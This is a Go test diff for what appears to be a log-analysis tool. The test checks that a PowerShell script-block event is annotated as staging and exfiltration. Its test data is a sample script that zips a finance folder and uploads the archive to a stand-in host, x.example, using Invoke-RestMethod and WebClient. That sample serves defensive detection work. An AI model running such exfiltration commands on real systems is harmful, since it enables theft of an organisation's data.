@@ -428,3 +428,25 @@ func TestObjectAccessWrites(t *testing.T) {
 		t.Errorf("items %+v, want the rar with 2 volumes written and 3 detections", e.Items)
 	}
 }
+
+// A script's variables assigned a path or URL are read where it uses
+// them; the output of a command assigned to one is recognised as the
+// command.
+func TestPowerShellVariables(t *testing.T) {
+	script := "$src = \"D:\\Finance\"\n[string]$zip = 'C:\\ProgramData\\f.zip'\nCompress-Archive -Path $src -DestinationPath $zip -Force\n" +
+		"$wc = New-Object System.Net.WebClient\n$r = Invoke-RestMethod -Uri https://x.example/u -Method Post -InFile $zip\n" +
+		"$wc.UploadFile(\"https://x.example/v\", \"$zip\")\n$src = Get-Item $p\nCopy-Item $src C:\\t\\"
+	_, e := annotate(t, nil, det("WS1", 4104, 0, nil, "ScriptBlockText", script))
+	var got []string
+	for _, it := range e.Items {
+		got = append(got, it.Kind+" "+it.Tool+" "+strings.Join(it.Sources, ",")+" → "+it.Destination+" "+it.Strength)
+	}
+	want := []string{
+		`staged Compress-Archive D:\Finance → C:\ProgramData\f.zip strong`,
+		`exfiltrated Invoke-RestMethod C:\ProgramData\f.zip → https://x.example/u strong`,
+		`exfiltrated WebClient C:\ProgramData\f.zip → https://x.example/v strong`,
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("items\n got %q\nwant %q", got, want)
+	}
+}
